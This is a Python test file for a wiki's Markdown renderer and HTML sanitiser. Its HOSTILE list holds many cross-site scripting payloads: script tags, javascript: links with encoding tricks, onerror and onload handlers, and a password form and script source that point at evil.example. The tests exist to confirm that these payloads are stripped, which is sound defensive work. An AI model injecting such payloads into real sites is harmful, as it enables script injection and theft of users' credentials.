"""Wiki Markdown is rendered and then sanitised (features/wiki/markup.py):
whatever hostile Markdown or HTML a page holds, the HTML that comes out has
only allowed tags, no event attributes or inline styles, and links and
images only to http(s), mailto or this site."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from features.wiki.markup import ALIGN_CLASSES, ATTRIBUTES, TAGS, clean, render

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pic](javascript:alert(1))",
    "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    '<div style="position:fixed;top:0">cover</div>',
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "<form action=https://evil.example><input name=password></form>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "`<script>` in code and\n\n    <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]


class Collect(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attrs = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend((tag, k, v or "") for k, v in attrs)

    handle_startendtag = handle_starttag


def assert_safe(html: str) -> None:
    parsed = Collect()
    parsed.feed(html)
    assert set(parsed.tags) <= TAGS, html
    for tag, name, value in parsed.attrs:
        assert not name.startswith("on"), html
        assert name != "style", html
        if name == "class":
            assert tag in ("th", "td") and value in ALIGN_CLASSES.values(), html
        elif name == "rel":
            assert tag == "a", html
        else:
            assert name in ATTRIBUTES.get(tag, ()), html
        if name in ("href", "src"):
            scheme = value.split(":", 1)[0].lower() if ":" in value.split("/", 1)[0] else ""
            assert scheme in ("", "http", "https", "mailto"), html
    # a refused link stays as its text, which is harmless; but never as markup
    for word in ("<script", "<iframe", "<style", "<svg", "<form", "<base", "<meta"):
        assert word not in html.lower(), html


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_comes_out_harmless(source):
    assert_safe(render(source))


@pytest.mark.parametrize("html", [h for h in HOSTILE if h.startswith("<")])
def test_the_sanitiser_alone_cleans_hostile_html(html):
    """The second wall: were the parser ever to pass HTML through, the
    sanitiser still takes out what is not allowed."""
    assert_safe(clean(html))


def test_raw_html_is_shown_as_text_not_dropped():
    html = render("Say <b>hi</b> & <script>x</script>")
    assert "&lt;b&gt;hi&lt;/b&gt;" in html and "&lt;script&gt;" in html and "&amp;" in html
    assert "<b>" not in html


def test_markdown_itself_still_works():
    html = render("# Theme\n\nThe **city** is *old*; see [rules](/wiki/house-rules/) and "
                  "[the forum](https://forum.example/).\n\n- one\n- two\n\n"
                  "| left | right |\n|:--|--:|\n| a | b |\n\n~~gone~~ `code`")
    assert "<h1>Theme</h1>" in html and "<strong>city</strong>" in html and "<em>old</em>" in html
    assert '<a href="/wiki/house-rules/" rel="nofollow noopener noreferrer">rules</a>' in html
    assert 'href="https://forum.example/"' in html
    assert "<li>one</li>" in html and "<s>gone</s>" in html and "<code>code</code>" in html
    assert '<th class="ff-left">left</th>' in html and '<td class="ff-right">b</td>' in html
    assert "style=" not in html
    assert_safe(html)


FRAGMENTS = st.sampled_from([
    "<", ">", "\"", "'", "=", " ", "\n", "(", ")", "[", "]", "!", ":", "&#", ";", "x", "a", "|",
    "javascript:", "JaVaScRiPt", "data:", "on", "onerror", "onclick=", "style=", "script", "img",
    "src=", "href=", "svg", "&colon;", "&#58;", "#", "*", "`", "-", "/", "\\", "http://ok.example/",
])


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=40).map("".join))
def test_any_mix_of_dangerous_fragments_comes_out_harmless(source):
    assert_safe(render(source))
